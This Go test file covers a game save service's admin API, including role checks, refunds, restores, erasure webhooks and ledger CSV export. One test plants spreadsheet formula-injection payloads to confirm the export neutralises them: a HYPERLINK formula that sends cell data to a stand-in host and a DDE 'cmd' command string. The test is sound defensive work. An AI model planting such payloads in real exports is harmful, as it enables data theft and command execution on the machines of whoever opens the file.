package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/google/go-cmp/cmp"

	"github.com/savesync/savesync/handlers"
	"github.com/savesync/savesync/internal/firestoretest"
	"github.com/savesync/savesync/save"
	"github.com/savesync/savesync/store"
)

// adminServerKey is the game-server key of the admin tests.
const adminServerKey = "admin-test-server-key"

// webhookSecret is the Roblox webhook secret of the admin tests.
const webhookSecret = "roblox-webhook-secret"

// adminEnv is the service with the game-server and admin APIs over a
// fresh emulator project, and staff accounts on the Auth emulator.
type adminEnv struct {
	t       *testing.T
	url     string
	store   *store.Store
	player  *fbUser // no role
	support *fbUser
	admin   *fbUser
	erased  *erasedLog // the user ids AdminOptions.OnErased was called with
}

// erasedLog records OnErased calls.
type erasedLog struct {
	mu  sync.Mutex
	ids []int64
}

func (l *erasedLog) add(_ context.Context, id int64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.ids = append(l.ids, id)
}

func (l *erasedLog) all() []int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.ids)
}

// adminReply is a decoded HTTP answer.
type adminReply = response

func newAdminEnv(t *testing.T) *adminEnv {
	t.Helper()
	authEmulator(t)
	gin.SetMode(gin.TestMode)
	project := firestoretest.Project(t)
	c := firestoretest.Dial(t, project)
	game := firestoretest.GameConfig(t)
	st := store.New(c.Firestore, c.GAPIC, project, game, store.Options{})
	keys, err := handlers.ParseServerKeys("1:" + handlers.HashKey(adminServerKey))
	if err != nil {
		t.Fatal(err)
	}
	fa, err := handlers.NewFirebaseAuth(context.Background(), authProject)
	if err != nil {
		t.Fatal(err)
	}
	r := gin.New()
	r.Use(handlers.LimitBody(64 << 10))
	handlers.NewServerAPI(st, game, keys).Register(r)
	erased := &erasedLog{}
	handlers.NewAdminAPI(st, fa, handlers.AdminOptions{ErasureKey: []byte("test-erasure-key"), RobloxWebhookSecret: webhookSecret, OnErased: erased.add}).Register(r)
	srv := httptest.NewServer(r)
	t.Cleanup(srv.Close)
	return &adminEnv{t: t, url: srv.URL, store: st, player: signUp(t), support: staff(t, handlers.RoleSupport), admin: staff(t, handlers.RoleAdmin), erased: erased}
}

// staff signs up an account and gives it a role claim.
func staff(t *testing.T, role string) *fbUser {
	t.Helper()
	u := signUp(t)
	if err := authAdmin(t).SetCustomUserClaims(context.Background(), u.UID, map[string]any{handlers.ClaimRole: role}); err != nil {
		t.Fatal(err)
	}
	u.signIn(t)
	return u
}

// call sends a request; token "" sends no Authorization header.
func (e *adminEnv) call(method, path, token string, body any, headers ...string) adminReply {
	e.t.Helper()
	return send(e.t, method, e.url+path, token, body, headers...)
}

// serverMutate applies a mutation as the game server.
func (e *adminEnv) serverMutate(userID int64, key, mutation string) map[string]any {
	e.t.Helper()
	r := e.call("POST", fmt.Sprintf("/v1/players/%d/mutations", userID), adminServerKey, []byte(mutation), "Idempotency-Key", key)
	if r.status != http.StatusOK {
		e.t.Fatalf("server mutation %s: %d %s", key, r.status, r.body)
	}
	return r.object(e.t)
}

// checkLedgerSums checks that the version equals the number of ledger
// entries and each currency equals its start plus the recorded deltas.
func (e *adminEnv) checkLedgerSums(userID int64) {
	e.t.Helper()
	r := e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?limit=100", userID), e.support.IDToken, nil)
	if r.status != http.StatusOK {
		e.t.Fatalf("ledger: %d %s", r.status, r.body)
	}
	var page struct {
		Entries []struct {
			Changes []save.Change `json:"changes"`
		} `json:"entries"`
		NextCursor string `json:"nextCursor"`
	}
	if err := json.Unmarshal(r.body, &page); err != nil || page.NextCursor != "" {
		e.t.Fatalf("ledger page: %v (cursor %q)", err, page.NextCursor)
	}
	p, err := e.store.GetPlayer(context.Background(), userID)
	if err != nil {
		e.t.Fatal(err)
	}
	if int64(len(page.Entries)) != p.Version {
		e.t.Errorf("version %d but %d ledger entries", p.Version, len(page.Entries))
	}
	sums := map[string]int64{"coins": 100, "gems": 0}
	for _, en := range page.Entries {
		for _, c := range en.Changes {
			if id, ok := strings.CutPrefix(c.Path, "currencies."); ok {
				o, _ := save.ChangeInt(c.Old)
				n, _ := save.ChangeInt(c.New)
				sums[id] += n - o
			}
		}
	}
	cur := p.Save["currencies"].(map[string]any)
	for id, want := range sums {
		if got, _ := save.ChangeInt(cur[id]); got != want {
			e.t.Errorf("%s = %d, but start plus ledger deltas = %d", id, got, want)
		}
	}
}

func TestAdminRoutesByRole(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8101
	e.serverMutate(userID, "seed", `{"ops":[{"op":"currency.add","currency":"coins","amount":25}]}`)
	base := fmt.Sprintf("/v1/admin/players/%d", userID)
	compensation := map[string]any{"reason": "lost coins", "ticket": "T-100", "ops": []map[string]any{{"op": "currency.add", "currency": "gems", "amount": 5}}}
	restore := map[string]any{"version": 1, "reason": "rollback", "ticket": "T-101"}
	routes := []struct {
		name, method, path string
		body               any
		support, admin     int
	}{
		{"ledger", "GET", base + "/ledger", nil, 200, 200},
		{"version", "GET", base + "/versions/1", nil, 200, 200},
		{"diff", "GET", base + "/diff?from=0&to=1", nil, 200, 200},
		{"compensation", "POST", base + "/compensations", compensation, 200, 200},
		{"restore", "POST", base + "/restore", restore, 403, 200},
		{"erase", "DELETE", base, nil, 403, 200},
	}
	for i, rt := range routes {
		key := fmt.Sprintf("key-%d", i)
		t.Run(rt.name, func(t *testing.T) {
			for _, who := range []struct {
				name  string
				token string
				want  int
			}{
				{"no token", "", http.StatusUnauthorized},
				{"player without role", e.player.IDToken, http.StatusForbidden},
				{"support", e.support.IDToken, rt.support},
				{"admin", e.admin.IDToken, rt.admin},
			} {
				r := e.call(rt.method, rt.path, who.token, rt.body, "Idempotency-Key", key+"-"+who.name)
				if r.status != who.want {
					t.Errorf("%s %s as %s: %d %s, want %d", rt.method, rt.path, who.name, r.status, r.body, who.want)
				}
			}
		})
	}
}

func TestAdminRefundAndReplay(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8201
	bought := e.serverMutate(userID, "buy", `{"ops":[{"op":"purchase","sku":"starter"}]}`)
	e.serverMutate(userID, "drink", `{"ops":[{"op":"item.consume","item":"potion","count":1}]}`)
	path := fmt.Sprintf("/v1/admin/players/%d/compensations", userID)
	body := map[string]any{"refundEntryId": bought["entryId"], "reason": "charged twice", "ticket": "T-200"}

	first := e.call("POST", path, e.support.IDToken, body, "Idempotency-Key", "refund-1")
	if first.status != http.StatusOK || first.header.Get("Idempotent-Replayed") != "" {
		t.Fatalf("refund: %d %s (replayed %q)", first.status, first.body, first.header.Get("Idempotent-Replayed"))
	}
	var got struct {
		Mutation    save.Outcome     `json:"mutation"`
		Unrecovered []save.Shortfall `json:"unrecovered"`
	}
	if err := json.Unmarshal(first.body, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]save.Shortfall{{Path: "items.potion", Granted: 2, Recovered: 1}}, got.Unrecovered); diff != "" {
		t.Errorf("unrecovered (-want +got):\n%s", diff)
	}
	if got.Mutation.Version != 3 {
		t.Errorf("refund committed version %d, want 3", got.Mutation.Version)
	}

	replay := e.call("POST", path, e.support.IDToken, body, "Idempotency-Key", "refund-1")
	if replay.status != http.StatusOK || replay.header.Get("Idempotent-Replayed") != "true" || !bytes.Equal(replay.body, first.body) {
		t.Errorf("replay: %d %s (replayed %q), want the first answer replayed", replay.status, replay.body, replay.header.Get("Idempotent-Replayed"))
	}
	p, err := e.store.GetPlayer(context.Background(), userID)
	if err != nil {
		t.Fatal(err)
	}
	if p.Version != 3 {
		t.Errorf("version after a replayed refund = %d, want 3", p.Version)
	}
	e.checkLedgerSums(userID)

	// The refund names the operator and the ticket in the audit trail.
	r := e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?actorKind=admin&actorId=%s", userID, e.support.UID), e.support.IDToken, nil)
	entries, _ := r.object(t)["entries"].([]any)
	if len(entries) != 1 {
		t.Fatalf("operator's entries: %s", r.body)
	}
	if reason, _ := entries[0].(map[string]any)["reason"].(string); !strings.Contains(reason, "T-200") || !strings.Contains(reason, "charged twice") {
		t.Errorf("refund reason = %q, want the reason and ticket", reason)
	}
	if kind := entries[0].(map[string]any)["kind"]; kind != "refund" {
		t.Errorf("refund entry kind = %v, want refund", kind)
	}

	refusals := []struct {
		name string
		body map[string]any
		key  string
		code string
	}{
		{"no ticket", map[string]any{"reason": "x", "ops": []map[string]any{{"op": "currency.add", "currency": "coins", "amount": 1}}}, "r-1", "INVALID_ARGUMENT"},
		{"no reason", map[string]any{"ticket": "T", "ops": []map[string]any{{"op": "currency.add", "currency": "coins", "amount": 1}}}, "r-2", "INVALID_ARGUMENT"},
		{"restore in disguise", map[string]any{"reason": "x", "ticket": "T", "ops": []map[string]any{{"op": "save.replace", "save": map[string]any{}}}}, "r-3", "INVALID_ARGUMENT"},
		{"no key", map[string]any{"reason": "x", "ticket": "T", "ops": []map[string]any{{"op": "currency.add", "currency": "coins", "amount": 1}}}, "", "INVALID_ARGUMENT"},
		{"key reused", map[string]any{"refundEntryId": bought["entryId"], "reason": "other", "ticket": "T-9"}, "refund-1", "IDEMPOTENCY_KEY_REUSED"},
	}
	for _, tt := range refusals {
		t.Run(tt.name, func(t *testing.T) {
			r := e.call("POST", path, e.support.IDToken, tt.body, "Idempotency-Key", tt.key)
			errBody, _ := r.object(t)["error"].(map[string]any)
			if code, _ := errBody["code"].(string); code != tt.code {
				t.Errorf("%d %s, want %s", r.status, r.body, tt.code)
			}
		})
	}
}

func TestAdminTimeTravelRestoreAndExport(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8301
	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":400},{"op":"item.grant","item":"sword","count":1}]}`)
	e.serverMutate(userID, "k2", `{"ops":[{"op":"collection.add","collection":"badges","element":"gold"},{"op":"settings.set","key":"volume","value":10}]}`)
	e.serverMutate(userID, "k3", `{"ops":[{"op":"item.consume","item":"sword","count":1},{"op":"currency.add","currency":"coins","amount":-450}]}`)
	base := fmt.Sprintf("/v1/admin/players/%d", userID)

	r := e.call("GET", base+"/versions/2", e.support.IDToken, nil)
	var at struct {
		Version int64 `json:"version"`
		Save    struct {
			Currencies map[string]int64 `json:"currencies"`
			Items      map[string]int64 `json:"items"`
		} `json:"save"`
	}
	if err := json.Unmarshal(r.body, &at); err != nil || r.status != http.StatusOK {
		t.Fatalf("version 2: %d %s", r.status, r.body)
	}
	if at.Save.Currencies["coins"] != 500 || at.Save.Items["sword"] != 1 {
		t.Errorf("save at version 2 = %+v, want 500 coins and the sword", at.Save)
	}

	r = e.call("GET", base+"/diff?from=2&to=3", e.support.IDToken, nil)
	var d struct {
		Changes []save.Change `json:"changes"`
	}
	if err := json.Unmarshal(r.body, &d); err != nil {
		t.Fatal(err)
	}
	want := []save.Change{{Path: "currencies.coins", Old: 500.0, New: 50.0}, {Path: "items.sword", Old: 1.0, New: nil}}
	if diff := cmp.Diff(want, d.Changes); diff != "" {
		t.Errorf("diff 2→3 (-want +got):\n%s", diff)
	}

	r = e.call("POST", base+"/restore", e.admin.IDToken, map[string]any{"version": 2, "reason": "sword vanished", "ticket": "T-300"}, "Idempotency-Key", "restore-1")
	if r.status != http.StatusOK {
		t.Fatalf("restore: %d %s", r.status, r.body)
	}
	var out save.Outcome
	if err := json.Unmarshal(r.body, &out); err != nil {
		t.Fatal(err)
	}
	var undone []string
	for _, c := range out.Changes {
		undone = append(undone, c.Path)
	}
	if diff := cmp.Diff([]string{"currencies.coins", "items.sword"}, undone); diff != "" || out.Version != 4 {
		t.Errorf("restore undid (-want +got):\n%s (version %d, want 4)", diff, out.Version)
	}
	e.checkLedgerSums(userID)
	if r := e.call("GET", base+"/ledger?limit=1", e.support.IDToken, nil); !strings.Contains(string(r.body), `"kind":"restore"`) {
		t.Errorf("newest entry after a restore: %s, want kind restore", r.body)
	}
	if r := e.call("GET", base+"/versions/5", e.support.IDToken, nil); r.status != http.StatusNotFound {
		t.Errorf("version 5: %d %s, want 404", r.status, r.body)
	}

	r = e.call("GET", base+"/ledger?format=csv", e.support.IDToken, nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("csv export: %d %v %s", r.status, err, r.body)
	}
	if len(rows) != 5 || rows[0][0] != "committedAt" || rows[1][1] != "4" || rows[4][1] != "1" {
		t.Errorf("csv rows = %q, want a header and versions 4..1", rows)
	}
}

func TestRobloxErasureWebhook(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8401
	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":5}]}`)
	body := []byte(fmt.Sprintf(`{"NotificationId":"n-8401","EventType":"RightToErasureRequest","EventTime":"2026-03-01T10:00:00Z","EventPayload":{"UserId":%d,"GameIds":[1]}}`, userID))
	now := time.Now()
	refused := []struct {
		name, header string
	}{
		{"unsigned", ""},
		{"wrong secret", handlers.SignRobloxWebhook(body, "not-the-secret", now)},
		{"other body", handlers.SignRobloxWebhook([]byte(`{"EventType":"RightToErasureRequest"}`), webhookSecret, now)},
		{"eleven minutes old", handlers.SignRobloxWebhook(body, webhookSecret, now.Add(-11*time.Minute))},
		{"no timestamp", "v1=" + strings.SplitN(handlers.SignRobloxWebhook(body, webhookSecret, now), "v1=", 2)[1]},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			r := e.call("POST", "/v1/webhooks/roblox", "", body, "Roblox-Signature", tt.header)
			if r.status != http.StatusUnauthorized {
				t.Errorf("%d %s, want 401", r.status, r.body)
			}
		})
	}
	if p, err := e.store.GetPlayer(context.Background(), userID); err != nil || p.Version != 1 {
		t.Fatalf("player after refused webhooks = %+v, %v; want untouched", p, err)
	}

	var answers []map[string]any
	for range 2 {
		r := e.call("POST", "/v1/webhooks/roblox", "", body, "Roblox-Signature", handlers.SignRobloxWebhook(body, webhookSecret, time.Now()))
		if r.status != http.StatusOK {
			t.Fatalf("webhook: %d %s", r.status, r.body)
		}
		answers = append(answers, r.object(t))
	}
	deleted, _ := answers[0]["deleted"].(map[string]any)
	if answers[0]["alreadyErased"] != false || deleted["players"] != 1.0 || deleted["ledgerEntries"] != 1.0 {
		t.Errorf("first delivery = %v, want the player and its entry erased", answers[0])
	}
	if answers[1]["alreadyErased"] != true || answers[1]["recordId"] != answers[0]["recordId"] {
		t.Errorf("second delivery = %v, want already erased under the same record", answers[1])
	}
	// Game servers are told both times (a retried delivery may follow a
	// publish that failed); refused deliveries told nobody.
	if diff := cmp.Diff([]int64{userID, userID}, e.erased.all()); diff != "" {
		t.Errorf("OnErased calls (-want +got):\n%s", diff)
	}
	p, err := e.store.GetPlayer(context.Background(), userID)
	if err != nil || p.Version != 0 {
		t.Errorf("player after erasure = %+v, %v; want a fresh save at version 0", p, err)
	}

	sample := []byte(`{"NotificationId":"n-x","EventType":"SampleNotification","EventPayload":{}}`)
	r := e.call("POST", "/v1/webhooks/roblox", "", sample, "Roblox-Signature", handlers.SignRobloxWebhook(sample, webhookSecret, time.Now()))
	if r.status != http.StatusOK || r.object(t)["ignored"] != true {
		t.Errorf("other event type: %d %s, want it acknowledged and ignored", r.status, r.body)
	}
}

func TestLedgerExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8601
	hyperlink := `=HYPERLINK("https://evil.example/?d="&A1,"click")`
	e.serverMutate(userID, `@SUM(A1:A9)`, `{"reason":`+mustJSON(t, hyperlink)+`,"ops":[{"op":"currency.add","currency":"coins","amount":-5}]}`)
	e.serverMutate(userID, "-2+3", `{"reason":"-5","ops":[{"op":"currency.add","currency":"coins","amount":7}]}`)
	e.serverMutate(userID, "k-3", `{"reason":"+cmd|' /C calc'!A0","ops":[{"op":"settings.set","key":"music","value":false}]}`)
	e.serverMutate(userID, "k-4", "{\"reason\":\"\\tindented\\r\",\"ops\":[{\"op\":\"settings.set\",\"key\":\"music\",\"value\":true}]}")

	r := e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?format=csv", userID), e.support.IDToken, nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || r.status != http.StatusOK || len(rows) != 5 {
		t.Fatalf("csv export: %d %v %q", r.status, err, r.body)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	type cells struct{ Version, Key, Reason, Ops string }
	var got []cells
	for _, row := range rows[1:] {
		got = append(got, cells{row[col["version"]], row[col["idempotencyKey"]], row[col["reason"]], row[col["ops"]]})
	}
	want := []cells{
		{"4", "k-4", "'\tindented\r", `[{"key":"music","op":"settings.set","value":true}]`},
		{"3", "k-3", "'+cmd|' /C calc'!A0", `[{"key":"music","op":"settings.set","value":false}]`},
		{"2", "'-2+3", "-5", `[{"amount":7,"currency":"coins","op":"currency.add"}]`},
		{"1", "'@SUM(A1:A9)", "'" + hyperlink, `[{"amount":-5,"currency":"coins","op":"currency.add"}]`},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("exported cells, newest first (-want +got):\n%s", diff)
	}
	// The JSON page is data, not a spreadsheet: it keeps the values as sent.
	r = e.call("GET", fmt.Sprintf("/v1/admin/players/%d/ledger?idempotencyKey=k-3", userID), e.support.IDToken, nil)
	if !strings.Contains(string(r.body), `"reason":"+cmd|' /C calc'!A0"`) {
		t.Errorf("JSON search changed the reason: %s", r.body)
	}
}

// mustJSON encodes v as JSON text.
func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestErasureWebhookUnderConcurrentDeliveries(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID, deliveries = 8701, 50
	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":5}]}`)
	body := []byte(fmt.Sprintf(`{"NotificationId":"n-8701","EventType":"RightToErasureRequest","EventTime":"2026-03-01T10:00:00Z","EventPayload":{"UserId":%d,"GameIds":[1]}}`, userID))
	sig := handlers.SignRobloxWebhook(body, webhookSecret, time.Now())

	replies := make([]adminReply, deliveries)
	var wg sync.WaitGroup
	for i := range replies {
		wg.Add(1)
		go func() {
			defer wg.Done()
			replies[i] = e.call("POST", "/v1/webhooks/roblox", "", body, "Roblox-Signature", sig)
		}()
	}
	wg.Wait()
	erasers, duplicates := 0, 0
	var record any
	for i, r := range replies {
		if r.status != http.StatusOK {
			t.Fatalf("delivery %d: %d %s", i, r.status, r.body)
		}
		got := r.object(t)
		if record == nil {
			record = got["recordId"]
		}
		if got["recordId"] != record {
			t.Errorf("delivery %d names record %v, want %v like the others", i, got["recordId"], record)
		}
		deleted, _ := got["deleted"].(map[string]any)
		switch got["alreadyErased"] {
		case false:
			erasers++
			if deleted["players"] != 1.0 || deleted["ledgerEntries"] != 1.0 {
				t.Errorf("the erasing delivery deleted %v, want the player and its entry", deleted)
			}
		case true:
			duplicates++
			if diff := cmp.Diff(map[string]any{"players": 0.0, "ledgerEntries": 0.0, "other": 0.0, "links": 0.0, "linkCodes": 0.0}, deleted); diff != "" {
				t.Errorf("a duplicate delivery deleted something (-want +got):\n%s", diff)
			}
		default:
			t.Errorf("delivery %d: alreadyErased = %v", i, got["alreadyErased"])
		}
	}
	if erasers != 1 || duplicates != deliveries-1 {
		t.Errorf("%d deliveries answered as the eraser and %d as duplicates, want 1 and %d", erasers, duplicates, deliveries-1)
	}
	if p, err := e.store.GetPlayer(context.Background(), userID); err != nil || p.Version != 0 {
		t.Errorf("player after erasure = %+v, %v; want a fresh save at version 0", p, err)
	}
}

func TestAdminErasureKeysAreScopedByAdmin(t *testing.T) {
	t.Parallel()
	e := newAdminEnv(t)
	const userID = 8801
	other := staff(t, handlers.RoleAdmin)
	path := fmt.Sprintf("/v1/admin/players/%d", userID)
	e.serverMutate(userID, "k1", `{"ops":[{"op":"currency.add","currency":"coins","amount":5}]}`)

	first := e.call("DELETE", path, e.admin.IDToken, nil, "Idempotency-Key", "erase-K")
	if first.status != http.StatusOK || first.object(t)["alreadyErased"] != false || first.header.Get("Idempotent-Replayed") != "" {
		t.Fatalf("admin A erases: %d %s (replayed %q)", first.status, first.body, first.header.Get("Idempotent-Replayed"))
	}
	// The game server, still holding the player, writes again.
	e.serverMutate(userID, "k2", `{"ops":[{"op":"currency.add","currency":"coins","amount":7}]}`)

	second := e.call("DELETE", path, other.IDToken, nil, "Idempotency-Key", "erase-K")
	got := second.object(t)
	deleted, _ := got["deleted"].(map[string]any)
	if second.status != http.StatusOK || got["alreadyErased"] != false || deleted["players"] != 1.0 || second.header.Get("Idempotent-Replayed") != "" {
		t.Errorf("admin B with the same key: %d %s (replayed %q), want the new data erased", second.status, second.body, second.header.Get("Idempotent-Replayed"))
	}
	if p, err := e.store.GetPlayer(context.Background(), userID); err != nil || p.Version != 0 {
		t.Errorf("player after admin B's erasure = version %d, %v; want the new write gone", p.Version, err)
	}

	replay := e.call("DELETE", path, e.admin.IDToken, nil, "Idempotency-Key", "erase-K")
	if replay.status != http.StatusOK || replay.header.Get("Idempotent-Replayed") != "true" || !bytes.Equal(replay.body, first.body) {
		t.Errorf("admin A replays the key: %d replayed=%q %s, want 200, replayed, the first answer %s", replay.status, replay.header.Get("Idempotent-Replayed"), replay.body, first.body)
	}
}
